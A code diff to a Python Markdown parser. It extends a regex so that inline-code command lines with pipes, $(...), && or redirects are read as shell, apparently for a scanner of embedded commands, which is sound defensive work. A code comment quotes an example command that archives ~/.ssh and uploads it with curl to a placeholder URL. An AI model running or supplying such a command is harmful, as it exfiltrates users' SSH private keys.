@@ -17,7 +17,9 @@ _FENCE = re.compile(r"^\s{0,3}(`{3,}|~{3,})\s*([\w+.#-]*)")
 _TABLE = re.compile(r"^\s*\|.*\|\s*$")
 _QUOTE = re.compile(r"^\s*>")
 _HEADING = re.compile(r"^\s{0,3}#{1,6}\s")
-_BANG = re.compile(r"!`([^`\n]+)`")
+#: `` !`cmd` `` lines, and command lines written as inline code with a pipe, `$(...)`, `&&` or a
+#: redirect (`` `tar czf - ~/.ssh | curl -T - URL` ``): both are read as shell, like a fenced block
+_BANG = re.compile(r"!`([^`\n]+)`|`([^`\n]*(?:\||\$\(|&&|>)[^`\n]*)`")
 INLINE_CODE = re.compile(r"`[^`\n]*`")
 #: `[//]: # (text)` and `[comment]: <> (text)`: Markdown link definitions used as hidden comments.
 _MD_COMMENT = re.compile(r"^\s{0,3}\[(?://|comment|_)\]:\s*(?:#|<>)")
@@ -383,7 +385,7 @@ def build(rel: str, text: str, referenced: set[str]) -> FileContext:
         elif _HEADING.match(line):
             ctx.kinds[i] = "heading"
         for b in _BANG.finditer(line):
-            ctx.bang.append((i, b.group(1)))
+            ctx.bang.append((i, b.group(1) or b.group(2)))
     if fence is not None:
         ctx.fences.append(Fence(fence[1], fence[2], "\n".join(body), fence[3]))
     close_item()
